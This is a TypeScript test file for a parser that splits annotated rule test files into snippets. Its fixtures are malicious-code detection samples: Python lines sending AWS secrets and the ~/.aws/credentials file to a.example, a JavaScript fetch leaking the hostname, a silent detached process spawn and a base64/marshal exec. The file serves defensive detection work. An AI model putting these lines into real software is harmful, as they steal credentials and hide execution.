import { describe, expect, it } from 'vitest';
import { splitAnnotatedSnippets, type AnnotatedSnippet } from './split-annotated-snippets.js';

describe('splitAnnotatedSnippets', () => {
  it('makes one snippet per annotation, each with its block and without the other test cases', () => {
    const py = [
      '"""Tests for a rule',
      '# ruleid: not-an-annotation-inside-a-docstring',
      '"""',
      '',
      'def f():',
      '    # ok: exfiltrate-sensitive-data',
      '    requests.post("http://a.example", data={"x": 1})',
      '',
      '    # ruleid: exfiltrate-sensitive-data',
      '    requests.post(',
      '        "http://a.example",',
      '        data={"creds": os.getenv("AWS_SECRET_ACCESS_KEY")},',
      '    )',
      '',
      '',
      'def g():',
      '    # ruleid: exfiltrate-sensitive-data',
      '    requests.get("http://a.example/" + open("/root/.aws/credentials").read())',
      '',
    ].join('\n');
    const snippets = splitAnnotatedSnippets(py, '#');
    expect(snippets.map((s) => [s.kind, s.rule, s.line])).toEqual([
      ['ok', 'exfiltrate-sensitive-data', 6],
      ['ruleid', 'exfiltrate-sensitive-data', 9],
      ['ruleid', 'exfiltrate-sensitive-data', 17],
    ]);
    const [ok, multiLine, other] = snippets as [AnnotatedSnippet, AnnotatedSnippet, AnnotatedSnippet];
    expect(ok.code).toContain('data={"x": 1}');
    expect(ok.code).not.toContain('AWS_SECRET_ACCESS_KEY');
    // The multi-line call is taken whole (brackets balanced), the ok case of its block is dropped.
    expect(multiLine.statement.split('\n')).toHaveLength(4);
    expect(multiLine.code).toContain('def f():');
    expect(multiLine.code).toContain('AWS_SECRET_ACCESS_KEY');
    expect(multiLine.code).not.toContain('"x": 1');
    expect(other.code).toContain('def g():');
    expect(other.code).not.toContain('def f():');
  });

  it('keeps the unannotated context of a block and prepends the file imports a block lacks', () => {
    const js = [
      "const fs = require('fs');",
      '',
      '// ruleid: npm-exfiltrate-sensitive-data',
      "const os = require('os'); fetch('https://a.example/?' + os.hostname())",
      '',
      '// TEST CASE: silent spawn',
      "var spawn = require('child_process').spawn;",
      '// ruleid: npm-silent-process-execution',
      "spawn('node', ['svc.js'], {",
      "    stdio: 'ignore' // no output",
      '}).unref();',
      '',
      '// ok: npm-silent-process-execution',
      "spawn('ls', ['-la'])",
    ].join('\n');
    const snippets = splitAnnotatedSnippets(js, '//');
    expect(snippets).toHaveLength(3);
    const [first, bad, good] = snippets as [AnnotatedSnippet, AnnotatedSnippet, AnnotatedSnippet];
    expect(first.code).toContain('os.hostname()');
    // An import inside a test case is that case's, not prepended to the others.
    expect(bad.code).not.toContain("require('os')");
    expect(bad.code.startsWith("const fs = require('fs');\n")).toBe(true);
    expect(bad.code).toContain("var spawn = require('child_process').spawn;");
    expect(bad.statement).toContain('.unref()');
    expect(bad.code).not.toContain("'-la'");
    expect(good.code).toContain("spawn('ls', ['-la'])");
    expect(good.code).not.toContain('svc.js');
  });

  it('takes a compound statement with its body and its else clause', () => {
    const py = ['# ruleid: code-execution', 'if os.name == "nt":', '    os.system("a")', 'else:', '    os.system("b")', 'print("after")', ''].join('\n');
    const [s] = splitAnnotatedSnippets(py, '#');
    expect(s!.statement).toBe(['if os.name == "nt":', '    os.system("a")', 'else:', '    os.system("b")'].join('\n'));
  });

  it('takes the block after an annotated import, where the import is used', () => {
    const py = ['# ruleid: exec-base64', 'import marshal, zlib', '', 'exec(marshal.loads(zlib.decompress(b"x")))', '', '', 'print("next case")', ''].join('\n');
    const [s] = splitAnnotatedSnippets(py, '#');
    expect(s!.code).toContain('exec(marshal.loads');
    expect(s!.code).not.toContain('next case');
  });

  it('reads todoruleid as a case the code is (malicious) and ignores brackets inside strings', () => {
    const py = ['x = ")("', '# todoruleid: obfuscation', 'exec("(" + y)', ''].join('\n');
    const [s] = splitAnnotatedSnippets(py, '#');
    expect(s).toMatchObject({ kind: 'ruleid', rule: 'obfuscation', statement: 'exec("(" + y)' });
  });
});
